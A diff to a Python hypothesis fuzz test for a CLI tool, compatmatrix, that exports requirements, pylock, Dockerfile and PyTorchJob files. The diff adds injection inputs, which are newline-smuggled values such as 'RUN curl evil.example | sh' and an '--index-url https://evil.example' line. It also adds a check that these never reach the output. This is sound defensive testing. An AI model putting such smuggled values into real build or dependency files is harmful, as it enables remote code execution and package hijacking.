@@ -14,10 +14,18 @@ import subprocess
 import sys
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+import yaml
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from compatmatrix.cli import main
+
+if sys.version_info >= (3, 11):
+    import tomllib
+else:  # pragma: no cover - Python 3.9/3.10
+    import tomli as tomllib
+
+from .hostile_strings import hostile, hostile_requirement
 
 NAMES = ["torch", "intel-extension-for-pytorch", "intel_extension_for_pytorch", "ipex", "oneccl_bind_pt", "ccl", "torch_ccl",
          "transformers", "accelerate", "numpy", "Torch", "TORCH", "t", ""]
@@ -29,12 +37,13 @@ TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30
 
 def requirement():
     picked = st.tuples(st.sampled_from(NAMES), st.sampled_from(OPERATORS), st.sampled_from(VERSIONS)).map("".join)
-    return st.one_of(picked, TEXT)
+    return st.one_of(picked, TEXT, hostile_requirement(surrogates=False))
 
 
 def value():
     return st.one_of(st.sampled_from(["0", "-1", "nan", "inf", "1e309", "3.11", "3.6", "2.7", "3", "x", "", "1" * 5000, "\n", "3.11\n",
-                                      "manylinux2014_x86_64", "win_amd64", "http://[::1", "pytorch-cpu=http://[::1", "pypi=file:///nonexistent"]), TEXT)
+                                      "manylinux2014_x86_64", "win_amd64", "http://[::1", "pytorch-cpu=http://[::1", "pypi=file:///nonexistent"]), TEXT,
+                     hostile(surrogates=False), hostile(surrogates=False).map(lambda text: "pypi=/tmp/" + text))
 
 
 OPTIONS = {
@@ -45,7 +54,7 @@ OPTIONS = {
     "translate": ["--transformers", "--accelerate"],
     "env": ["--ranks-per-node", "--shell"],
     "export": ["--profile", "--with", "--python-version", "--platform", "--index", "--nnodes", "--nproc-per-node", "--cpu", "--memory", "--name",
-               "--namespace", "--shm-size", "--threads-per-core", "--image", "--base", "--ranks-per-node"],
+               "--namespace", "--shm-size", "--threads-per-core", "--image", "--base", "--ranks-per-node", "--wheelhouse"],
 }
 FIXED = {"install": ["--dry-run"], "env": ["--json"], "translate": ["--transformers", "4.30.2", "--accelerate", "0.20.3"]}
 FLAGS = {"resolve": ["--json"], "matrix": ["--json", "--sources"], "check": ["--json", "--bf16", "--no-bf16", "--verbose"],
@@ -66,15 +75,35 @@ def command_lines(draw):
             argv += ["--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi"]
     if command in ("resolve", "install", "export"):
         argv += draw(st.lists(requirement(), max_size=3))
+        if draw(st.booleans()):  # a pylock.toml whose first entry has a hostile name (run_in_process writes it)
+            argv += ["-r", LOCK + "\0" + draw(hostile_requirement(surrogates=False))]
     if command == "export" and argv[1] == "pytorchjob":
-        argv += ["--", *draw(st.lists(st.sampled_from(["python", "train.py", "./run.sh", "-m", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "-c"]),
-                                      max_size=5))]
+        words = st.one_of(st.sampled_from(["python", "train.py", "./run.sh", "-m", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "-c"]), hostile(surrogates=False))
+        argv += ["--", *draw(st.lists(words, max_size=5))]
     if command == "install" and draw(st.booleans()):
         argv += ["--python-version", "3.11"]
     if command == "translate":
         argv += ["--", *draw(st.lists(st.sampled_from(["python", "run.py", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "--bf16", "--xpu_backend", "x"]),
                                       min_size=1, max_size=6))]
     return argv
+
+
+LOCK = "{pylock.toml}"  # stands for a lock file with the hostile name after it, written in the test's folder
+
+
+def _with_lock(argv, folder) -> list:
+    """argv with each LOCK placeholder replaced by a pylock.toml in ``folder`` whose first package has the name that follows it."""
+    from compatmatrix.render.pylock import toml_string
+
+    out = []
+    for word in argv:
+        if word.startswith(LOCK + "\0"):
+            name = word.split("\0", 1)[1]
+            lock = folder / "pylock.toml"
+            lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = {toml_string(name)}\nversion = "1.0"\n', encoding="utf-8")
+            word = str(lock)
+        out.append(word)
+    return out
 
 
 def run_in_process(argv, capsys) -> tuple[int, str, str]:
@@ -88,10 +117,15 @@ def run_in_process(argv, capsys) -> tuple[int, str, str]:
 
 @settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES", "400")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
 @given(argv=command_lines())
+@example(argv=["export", "requirements", "-r", LOCK + "\0numpy\n--index-url https://evil.example/simple\n--trusted-host evil.example\nx"])
+@example(argv=["export", "pylock", "-r", LOCK + "\0numpy\n[[packages]]\nname = \"evil\""])
+@example(argv=["export", "dockerfile", "--base", "python:3.11-slim\nRUN curl evil.example | sh"])
+@example(argv=["export", "pytorchjob", "--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi", "--", "train.py", "a\x85b"])
 def test_random_command_lines_end_in_a_sentence_and_an_exit_code(argv, capsys, monkeypatch, tmp_path):
     monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
     monkeypatch.delenv("COMPAT_MATRIX", raising=False)
     monkeypatch.delenv("COMPAT_PYTHON", raising=False)
+    argv = _with_lock(argv, tmp_path)
     code, out, err = run_in_process(argv, capsys)
     shown = [a if len(a) < 80 else a[:60] + f"...({len(a)} chars)" for a in argv]
     assert code in (0, 1, 2), (shown, code, err[-2000:])
@@ -99,6 +133,19 @@ def test_random_command_lines_end_in_a_sentence_and_an_exit_code(argv, capsys, m
     assert "internal error" not in err, (shown, err[-1000:])  # the guard caught a bug: the crash report is in tmp_path
     if code == 2:
         assert err.strip(), shown  # a usage or tool error always says what
+    if argv[0] == "export" and code == 0:
+        _assert_no_injection(argv[1], out, shown)
+
+
+def _assert_no_injection(form: str, out: str, shown) -> None:
+    """The hostile strings' own lines (an index, a trusted host, a RUN, a TOML table) never stand on a line of an export,
+    and the structured formats still parse."""
+    planted = ("--index-url x", "--index-url https://evil", "--trusted-host", "-r /etc/passwd", "RUN curl evil", "FROM scratch", 'name = "evil"')
+    assert not any(line.startswith(planted) for line in out.splitlines()), (shown, out[-2000:])
+    if form == "pylock":
+        tomllib.loads(out)
+    elif form == "pytorchjob":
+        yaml.safe_load(out)
 
 
 @pytest.mark.parametrize(
